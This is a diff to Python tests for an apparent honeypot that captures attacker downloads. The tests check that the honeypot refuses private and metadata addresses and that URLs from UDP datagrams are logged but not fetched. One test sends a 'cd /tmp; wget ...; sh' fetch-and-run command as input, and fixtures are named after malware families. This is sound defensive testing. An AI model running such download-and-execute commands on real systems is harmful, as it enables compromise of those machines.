@@ -346,11 +346,13 @@ def capture_refuses_private_targets(ctx):
     evs = stop_and_read(d)
     assert sum(other.counts.values()) == 0, other.counts
     failed = dict((e["url"], e) for e in evs if e["eventid"] == "session.file_download.failed")
-    want = {web.url("/to-127-0-0-2"): "127.0.0.2", web.url("/to-10"): "10.0.0.1",
-            web.url("/to-link-local"): "169.254.169.254", other.url("/x"): "127.0.0.2"}
-    for url, ip in want.items():
+    want = {web.url("/to-127-0-0-2"): ("127.0.0.2", "loopback"), web.url("/to-10"): ("10.0.0.1", "private"),
+            web.url("/to-link-local"): ("169.254.169.254", "link-local"),
+            other.url("/x"): ("127.0.0.2", "loopback")}
+    for url, (ip, why) in want.items():
         assert url in failed, "no refusal logged for %s: %s" % (url, sorted(failed))
-        assert failed[url]["reason"] == "refused_address" and failed[url]["refused_ip"] == ip, failed[url]
+        e = failed[url]
+        assert e["reason"] == "refused_address" and e["refused_ip"] == ip and e["refused_why"] == why, e
     assert not [e for e in evs if e["eventid"] == "session.file_download"]
     assert os.listdir(os.path.join(d.data_dir, "payloads")) == [], "something was stored"
 
@@ -427,7 +429,7 @@ def capture_trap_exploit_urls(ctx):
     web.files["/jaws"] = fx.fixture("mirai-text")
     web.files["/huawei.mips"] = fx.fixture("elf-mips")
     web.files["/b64.sh"] = fx.fixture("shellbot-text")
-    d = ctx.daemon("cap-trap", [Service("trap", flush_after="200ms")],
+    d = ctx.daemon("cap-trap", [Service("trap", udp=1, flush_after="200ms")],
                    capture=dict(ALLOW_LOOPBACK)).start()
     port = d.svc("trap").port
     base = "http://127.0.0.1:%d" % port
@@ -445,9 +447,18 @@ def capture_trap_exploit_urls(ctx):
     urls = {web.url("/jaws"): "mirai-text", web.url("/huawei.mips"): "elf-mips",
             web.url("/b64.sh"): "shellbot-text", "tftp://127.0.0.1:%d/t.bin" % tftp.port: "xorddos-elf",
             "ftp://127.0.0.1:%d/f.bin" % ftp.port: "mozi-elf"}
+    # a datagram's source may be forged: its URLs are logged, never fetched
+    web.files["/udp.sh"] = b"#!/bin/sh\n"
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(("cd /tmp; wget %s; sh udp.sh" % web.url("/udp.sh")).encode(), ("127.0.0.1", d.svc("trap").uport))
+    u.close()
+    udp = wait_download(d, web.url("/udp.sh"))[0]
+    assert udp["eventid"] == "session.file_download.failed" and udp["reason"] == "udp_unverified", udp
+    assert udp["transport"] == "udp", udp
     for url in urls:
         wait_download(d, url)
     evs = stop_and_read(d)
+    assert web.count("/udp.sh") == 0
     for url, name in urls.items():
         e = [x for x in evs if x.get("url") == url and x["eventid"] == "session.file_download"]
         assert len(e) == 1, (url, [x for x in evs if x.get("url") == url])
